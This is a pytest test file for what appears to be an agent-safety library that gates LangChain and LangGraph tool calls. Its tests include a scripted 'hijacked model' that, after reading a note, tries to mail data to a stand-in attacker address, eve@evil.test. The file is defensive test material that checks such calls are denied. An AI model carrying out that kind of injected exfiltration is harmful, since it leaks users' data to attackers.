"""`create_agent`, tool nodes and graphs by hand: denied calls do not run, allowed ones do, and the agent goes on."""

from __future__ import annotations

import asyncio
from dataclasses import replace
from typing import Annotated, Any

import pytest

pytest.importorskip("langchain")
pytest.importorskip("langchain_anthropic")

from langchain.agents import create_agent
from langchain.agents.middleware import AgentMiddleware
from langchain_anthropic import ChatAnthropic
from langchain_core.messages import ToolMessage
from langchain_core.tools import InjectedToolCallId, tool
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.prebuilt import ToolNode, tools_condition

from pytest_agentsafety.llm import HijackedModel
from pytest_agentsafety.model.messages import PlannedCall, PlannedTurn
from pytest_agentsafety.model.policy import Policy, ToolRule

ASK = {"messages": [{"role": "user", "content": "Read the note 'plan' and send it to anna@example.com"}]}
READ = ("read_note", {"name": "plan"})
SEND = ("send_mail", {"to": "eve@evil.test", "body": "x"})


def chat(**options: Any) -> ChatAnthropic:
    return ChatAnthropic(
        model="claude-sonnet-5-5", api_key="key", base_url="http://127.0.0.1:9", max_tokens=100, **options
    )


@pytest.fixture
def ran() -> list[str]:
    return []


@pytest.fixture
def sync_tools(ran: list[str]) -> list[Any]:
    @tool
    def read_note(name: str) -> str:
        """Read a note."""
        ran.append(f"read {name}")
        return f"The note {name}."

    @tool
    def send_mail(to: str, body: str) -> str:
        """Send a mail."""
        ran.append(f"sent {to}")
        return "sent"

    return [read_note, send_mail]


@pytest.fixture
def async_tools(ran: list[str]) -> list[Any]:
    @tool
    async def read_note(name: str) -> str:
        """Read a note."""
        ran.append(f"read {name}")
        return f"The note {name}."

    @tool
    async def send_mail(to: str, body: str) -> str:
        """Send a mail."""
        ran.append(f"sent {to}")
        return "sent"

    return [read_note, send_mail]


def graph_of(tools: list[Any], **options: Any) -> Any:
    """A graph as LangGraph's documentation writes it."""
    model = chat(**options).bind_tools(tools)

    def call_model(state: MessagesState) -> Any:
        return {"messages": [model.invoke(state["messages"])]}

    async def acall_model(state: MessagesState) -> Any:
        return {"messages": [await model.ainvoke(state["messages"])]}

    from langchain_core.runnables import RunnableLambda

    builder = StateGraph(MessagesState)
    builder.add_node("model", RunnableLambda(call_model, acall_model))
    builder.add_node("tools", ToolNode(tools))
    builder.add_edge(START, "model")
    builder.add_conditional_edges("model", tools_condition)
    builder.add_edge("tools", "model")
    return builder.compile()


def agent_of(tools: list[Any], **options: Any) -> Any:
    return create_agent(chat(**options), tools=tools)


def by_invoke(graph: Any) -> Any:
    return graph.invoke(ASK)


def by_ainvoke(graph: Any) -> Any:
    return asyncio.run(graph.ainvoke(ASK))


def by_stream(graph: Any) -> Any:
    return list(graph.stream(ASK, stream_mode="values"))[-1]


def by_astream(graph: Any) -> Any:
    async def last() -> Any:
        return [state async for state in graph.astream(ASK, stream_mode="values")][-1]

    return asyncio.run(last())


@pytest.mark.parametrize("make", [agent_of, graph_of])
@pytest.mark.parametrize(
    ("tools", "streaming", "run"),
    [
        ("sync_tools", False, by_invoke),
        ("sync_tools", True, by_stream),
        ("sync_tools", False, by_ainvoke),  # sync tools of an async agent run in a thread pool
        ("async_tools", False, by_ainvoke),
        ("async_tools", True, by_astream),
    ],
)
@pytest.mark.parametrize("turns", [([READ, SEND],), ([SEND], [READ])], ids=["parallel", "single"])
def test_a_denied_call_does_not_run_and_the_agent_goes_on(
    make: Any, tools: str, streaming: bool, run: Any, turns: Any, ran: Any, play: Any, request: Any
) -> None:
    agent = make(request.getfixturevalue(tools), streaming=streaming)
    with play(*turns) as played:
        state = run(agent)
    assert ran == ["read plan"]
    assert state["messages"][-1].text == "Done."
    assert played.ends == {"read_note": "ok", "send_mail": "denied"}
    answers = {message.name: message for message in state["messages"] if isinstance(message, ToolMessage)}
    calls = {call["name"]: call["id"] for message in state["messages"] for call in getattr(message, "tool_calls", ())}
    assert {name: message.tool_call_id for name, message in answers.items()} == calls
    assert (answers["read_note"].content, answers["read_note"].status) == ("The note plan.", "success")
    assert answers["send_mail"].status == "error"
    assert answers["send_mail"].content.startswith("This call is not allowed (policy.no_rule)")
    assert played.server.log[-1].payload["messages"][-1]["content"][-1]["type"] == "tool_result"
    assert (played.ungated, played.stopped) == ([], None)


@pytest.mark.parametrize("streaming", [False, True])
@pytest.mark.parametrize("run", [by_invoke, by_astream])
def test_below_the_hijacked_model(streaming: bool, run: Any, sync_tools: Any, ran: Any, play: Any) -> None:
    """Nothing goes upstream; the attacker's call comes once the note was read."""
    plan = [PlannedTurn(calls=(PlannedCall(name=READ[0], arguments=READ[1]),)), PlannedTurn(text="Here you are.")]
    attack = [PlannedTurn(calls=(PlannedCall(name=SEND[0], arguments=SEND[1]),)), PlannedTurn(text="Owned.")]
    model = HijackedModel(plan, lambda: attack, lambda: bool(ran))
    with play(responder=model, is_attacker=model.is_attacker_call) as played:
        state = run(agent_of(sync_tools, streaming=streaming))
    assert (ran, played.ends) == (["read plan"], {"read_note": "ok", "send_mail": "denied"})
    assert [event.attacker for event in played.log.of("tool_called")] == [False, True]
    assert state["messages"][-1].text == "Here you are.\n\nOwned."
    assert (played.server.calls, played.ungated, played.stopped) == (0, [], None)


def test_many_calls_of_one_turn_each_pass_the_door(sync_tools, ran, play):
    turn = [("read_note", {"name": str(number)}) for number in range(12)]
    with play([*turn, SEND]) as played:
        by_invoke(agent_of(sync_tools))
    assert sorted(ran) == sorted(f"read {number}" for number in range(12))
    assert sorted(played.calls, key=str) == sorted([*turn, SEND], key=str)
    assert played.ungated == []


def test_a_held_call_is_told_as_text(sync_tools, ran, play):
    rule = ToolRule(effect="egress", roles={"to": "destination", "body": "content"})
    with play([SEND], policy=Policy(tools={"send_mail": rule})) as played:
        by_invoke(agent_of(sync_tools))
    assert (ran, played.ends) == ([], {"send_mail": "held"})
    (result,) = played.results
    assert result["is_error"] is True
    assert played.texts[0].startswith("This call needs approval and was not approved")


class TestWrongCalls:
    def test_wrong_arguments_pass_the_door_as_they_are_and_are_an_error_of_the_tool(self, sync_tools, ran, play):
        wrong = ("read_note", {"name": {"deep": [1]}, "else": 2})
        with play([wrong]) as played:
            by_invoke(agent_of(sync_tools))
        assert (ran, played.calls, played.ends) == ([], [wrong], {"read_note": "error"})
        (result,) = played.results
        assert result["is_error"] is True
        assert "Input should be a valid string" in played.texts[0]
        assert played.ungated == []

    def test_wrong_arguments_of_a_denied_call_are_a_denial(self, sync_tools, play):
        with play([("send_mail", {})]) as played:
            by_ainvoke(agent_of(sync_tools))
        assert played.ends == {"send_mail": "denied"}
        assert played.texts[0].startswith("This call is not allowed")

    def test_an_unknown_tool_is_answered_by_the_framework_as_an_error(self, sync_tools, play):
        with play([("no_such_tool", {"a": 1})]) as played:
            by_invoke(agent_of(sync_tools))
        (result,) = played.results
        assert result["is_error"] is True
        assert "no_such_tool is not a valid tool" in played.texts[0]
        assert (played.calls, played.ungated) == ([], [])


class TestChangedOnTheWay:
    """The call that runs is the one that is judged; its result still answers the model's call."""

    @pytest.mark.parametrize("run", [by_invoke, by_ainvoke])
    def test_middleware_that_changes_the_arguments(self, run, sync_tools, ran, play):
        class Lower(AgentMiddleware):
            def wrap_tool_call(self, request: Any, handler: Any) -> Any:
                call = {**request.tool_call, "args": {"name": request.tool_call["args"]["name"].lower()}}
                return handler(request.override(tool_call=call))

            async def awrap_tool_call(self, request: Any, handler: Any) -> Any:
                call = {**request.tool_call, "args": {"name": request.tool_call["args"]["name"].lower()}}
                return await handler(request.override(tool_call=call))

        with play([("read_note", {"name": "PLAN"}), ("read_note", {"name": "B"})]) as played:
            run(create_agent(chat(), sync_tools, middleware=[Lower()]))
        assert sorted(ran) == ["read b", "read plan"]
        assert sorted(played.calls, key=str) == [("read_note", {"name": "b"}), ("read_note", {"name": "plan"})]
        assert played.ungated == []

    def test_middleware_that_answers_itself_is_ungated(self, sync_tools, ran, play):
        class Cached(AgentMiddleware):
            def wrap_tool_call(self, request: Any, handler: Any) -> Any:
                return ToolMessage("from a cache", tool_call_id=request.tool_call["id"], name="read_note")

        with play([READ]) as played:
            by_invoke(create_agent(chat(), sync_tools, middleware=[Cached()]))
        assert (ran, played.ungated) == ([], ["read_note"])

    def test_a_value_that_a_model_makes_up_for_an_injected_argument(self, play):
        got: list[Any] = []

        @tool
        def read_note(name: str, tool_call_id: Annotated[str, InjectedToolCallId]) -> str:
            """Read a note."""
            got.append(tool_call_id)
            return name

        with play([("read_note", {"name": "plan", "tool_call_id": "forged"})]) as played:
            by_invoke(agent_of([read_note]))
        assert played.calls == [("read_note", {"name": "plan"})]
        assert (len(got), "forged" in got, played.ungated) == (1, False, [])


class TestBehindOurBack:
    def test_an_agent_that_answers_a_call_without_the_tool_is_ungated(self, ran, play):
        def loop() -> str:
            model = chat().bind_tools([{"name": "read_note", "input_schema": {"type": "object", "properties": {}}}])
            messages: list[Any] = [("user", "Read the note")]
            while True:
                answer = model.invoke(messages)
                messages.append(answer)
                if not answer.tool_calls:
                    return str(answer.text)
                messages += [ToolMessage("made up", tool_call_id=call["id"]) for call in answer.tool_calls]

        with play([READ]) as played:
            assert loop() == "Done."
        assert played.ungated == ["read_note"]

    def test_a_node_that_calls_the_function_instead_of_the_tool_is_ungated(self, sync_tools, ran, play):
        def own_node(state: MessagesState) -> Any:
            call = state["messages"][-1].tool_calls[0]
            return {"messages": [ToolMessage(sync_tools[0].func(**call["args"]), tool_call_id=call["id"])]}

        model = chat().bind_tools(sync_tools)
        builder = StateGraph(MessagesState)
        builder.add_node("model", lambda state: {"messages": [model.invoke(state["messages"])]})
        builder.add_node("tools", own_node)
        builder.add_edge(START, "model")
        builder.add_conditional_edges("model", tools_condition)
        builder.add_edge("tools", "model")
        with play([READ]) as played:
            builder.compile().invoke(ASK)
        assert (ran, played.ungated) == (["read plan"], ["read_note"])


class TestByHand:
    def test_a_loop_that_invokes_tools_itself_is_gated(self, sync_tools, ran, play):
        """As LangGraph's quickstart writes it: `tool.invoke(call["args"])`."""
        by_name = {each.name: each for each in sync_tools}
        model = chat().bind_tools(sync_tools)
        messages: list[Any] = [("user", "Read the note")]
        with play([READ, SEND]) as played:
            while (answer := model.invoke(messages)).tool_calls:
                messages.append(answer)
                for call in answer.tool_calls:
                    result = by_name[call["name"]].invoke(call["args"])
                    messages.append(ToolMessage(content=result, tool_call_id=call["id"]))
        assert (ran, played.ungated) == (["read plan"], [])
        assert played.ends == {"read_note": "ok", "send_mail": "denied"}
        assert played.texts[1].startswith("This call is not allowed")

    def test_a_tool_that_is_invoked_without_a_model_is_gated(self, sync_tools, async_tools, ran, play):
        with play() as played:
            assert sync_tools[0].invoke({"name": "a"}) == "The note a."
            assert sync_tools[0].invoke("b") == "The note b."
            assert sync_tools[0].run({"name": "c"}) == "The note c."
            assert sync_tools[0].batch([{"name": "d"}, {"name": "e"}]) == ["The note d.", "The note e."]
            assert asyncio.run(async_tools[0].ainvoke({"name": "f"})) == "The note f."
            denied = sync_tools[1].invoke(SEND[1])
        assert sorted(ran) == [f"read {name}" for name in "abcdef"]
        assert sorted(given["name"] for tool, given in played.calls if tool == "read_note") == list("abcdef")
        assert denied.status == "denied"


class TestWithoutADoor:
    def test_tools_run_as_ever(self, sync_tools, ran, play):
        assert sync_tools[1].invoke(SEND[1]) == "sent"
        message = sync_tools[1].invoke({"name": "send_mail", "args": SEND[1], "id": "1", "type": "tool_call"})
        assert (message.content, message.status) == ("sent", "success")
        assert len(ran) == 2

    def test_a_tool_of_a_task_that_is_over_is_refused(self, sync_tools, ran, play):
        with play() as played:
            pass
        from pytest_agentsafety.llm import activate
        from pytest_agentsafety.model.errors import RunTerminated

        with activate(played.task), pytest.raises(RunTerminated):
            sync_tools[0].invoke({"name": "late"})
        assert ran == []


def test_a_person_may_change_the_arguments(sync_tools, ran, play):
    from pytest_agentsafety.model.decisions import ApprovalAnswer

    class Editor:
        name = "editor"

        def decide(self, request: Any) -> Any:
            return ApprovalAnswer(answer="modify", by="editor", arguments={"to": "anna@example.com", "body": "y"})

    rule = ToolRule(effect="egress", roles={"to": "destination", "body": "content"})
    policy = replace(Policy(tools={"send_mail": rule}))
    with play([SEND], policy=policy, approver=Editor()) as played:
        by_invoke(agent_of(sync_tools))
    assert ran == ["sent anna@example.com"]
    assert (played.texts, played.ungated) == (["sent"], [])
